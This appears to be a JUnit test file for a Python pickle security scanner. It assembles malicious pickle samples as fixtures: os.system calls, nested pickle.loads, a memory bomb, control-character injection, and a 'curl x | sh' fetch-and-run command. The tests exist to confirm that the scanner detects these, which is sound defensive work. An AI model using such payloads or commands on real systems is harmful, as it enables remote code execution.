package dev.bulwark.scan.pickle;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bulwark.kernel.check.Check;
import dev.bulwark.kernel.check.Outcome;
import dev.bulwark.kernel.check.RuleId;
import dev.bulwark.testkit.CheckContract;
import java.util.List;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;

/// Each check by the contract, and what they say together.
class PickleChecksTest {

  private static final byte[] NOTHING = Asm.proto(2).none().stop();

  /// The contract on pickles: nothing passes, and the given programs fail.
  abstract static class Contract extends CheckContract<PickleView> {
    private final Check<PickleView> check;
    private final List<byte[]> dirty;

    Contract(Check<PickleView> check, byte[]... dirty) {
      this.check = check;
      this.dirty = List.of(dirty);
    }

    @Override
    protected Check<? super PickleView> check() {
      return check;
    }

    @Override
    protected List<PickleView> clean() {
      return List.of(PickleCases.view(NOTHING), PickleCases.view(Fixtures.stateDict(2)));
    }

    @Override
    protected List<PickleView> dirty() {
      return dirty.stream().map(PickleCases::view).toList();
    }
  }

  @Nested
  class DangerousNames extends Contract {
    DangerousNames() {
      super(
          new DangerousNameCheck(PickleCases.POLICY),
          Asm.proto(2).call("os", "system", "id").stop(),
          Asm.proto(2).global("os", "system").stop());
    }
  }

  @Nested
  class UnlistedNames extends Contract {
    UnlistedNames() {
      super(
          new UnlistedNameCheck(PickleCases.POLICY),
          Asm.proto(2).call("some.library", "Thing", "x").stop(),
          Asm.proto(2).call("statistics", "mean", "x").stop(),
          Asm.proto(2).call("builtins", "object", "x").stop());
    }
  }

  @Nested
  class ComputedNames extends Contract {
    ComputedNames() {
      super(
          new ComputedNameCheck(),
          Asm.proto(4).str("os").call("builtins", "str", "x").op(Op.STACK_GLOBAL).stop());
    }
  }

  @Nested
  class Arguments extends Contract {
    Arguments() {
      super(
          new ArgumentsCheck(PickleCases.POLICY),
          Asm.proto(2)
              .global("_codecs", "encode")
              .str("x")
              .str("rot13")
              .op(Op.TUPLE2, Op.REDUCE)
              .stop());
    }
  }

  @Nested
  class ChangedObjects extends Contract {
    ChangedObjects() {
      super(
          new ChangedObjectCheck(PickleCases.POLICY),
          Asm.proto(2).global("collections", "OrderedDict").op(Op.EMPTY_DICT, Op.BUILD).stop(),
          Asm.proto(2).global("collections", "deque").none().none().op(Op.SETITEM).stop());
    }
  }

  @Nested
  class LoaderObjects extends Contract {
    LoaderObjects() {
      super(
          new LoaderObjectsCheck(),
          Asm.pickle().raw("Pid\n").stop(),
          Asm.proto(2).op(Op.EXT1, 1).stop());
    }
  }

  @Nested
  class Frames extends Contract {
    Frames() {
      super(new FramesCheck(), Asm.proto(4).framed(4).str("abc").none().op(Op.POP).stop());
    }
  }

  @Nested
  class Bombs extends Contract {
    Bombs() {
      super(new BombCheck(), Asm.proto(2).none().op(Op.LONG_BINPUT).little(0x7000_0000, 4).stop());
    }
  }

  @Nested
  class Leftovers extends Contract {
    Leftovers() {
      super(new LeftoverCheck(), Asm.join(NOTHING, new byte[] {1, 2, 3}));
    }
  }

  @Nested
  class NestedPickles extends Contract {
    NestedPickles() {
      super(
          new NestedCheck(PickleCases.POLICY),
          Asm.proto(3).global("pickle", "loads").bytes(NOTHING).op(Op.TUPLE1, Op.REDUCE).stop());
    }
  }

  @Nested
  class Dependence extends Contract {
    Dependence() {
      super(new DependsCheck(), Asm.pickle().raw("I" + "9".repeat(5000) + "\n").stop());
    }
  }

  @Test
  void everyCheckIsListedOnce() {
    List<RuleId> ids =
        BuiltinPickleChecks.all(PickleCases.POLICY).stream().map(c -> c.rule().id()).toList();
    assertThat(ids).hasSize(11).doesNotHaveDuplicates().isSorted();
  }

  @Test
  void cleanSoFarAndMalformedIsUndecidedByEveryRule() {
    byte[] cut = Asm.proto(2).none().op(0xff).toArray();
    assertThat(PickleCases.outcomes(cut).values())
        .allSatisfy(outcome -> assertThat(outcome).isInstanceOf(Outcome.Undecided.class));
  }

  @Test
  void maliciousAndMalformedIsFailed() {
    byte[] cut = Asm.proto(2).call("os", "system", "id").op(0xff).toArray();
    assertThat(PickleCases.outcomes(cut).get(new RuleId("PKL-001")))
        .isInstanceOf(Outcome.Failed.class);
  }

  @Test
  void whatACallWouldDoIsSaidShortly() {
    byte[] pickle = Asm.proto(2).call("os", "system", "curl x | sh; " + "a".repeat(200)).stop();
    assertThat(PickleCases.findings(pickle).getFirst().message())
        .startsWith("calls os.system with 'curl x | sh; aaa")
        .hasSizeLessThan(140);
  }

  @Test
  void controlCharactersDoNotReachAMessage() {
    byte[] pickle = Asm.proto(4).stackGlobal("o\u001b[2Js", "sys\r\ntem\u202e").stop();
    assertThat(PickleCases.findings(pickle))
        .allSatisfy(
            finding ->
                assertThat(finding.message().chars().filter(Character::isISOControl).count())
                    .isZero());
  }
}
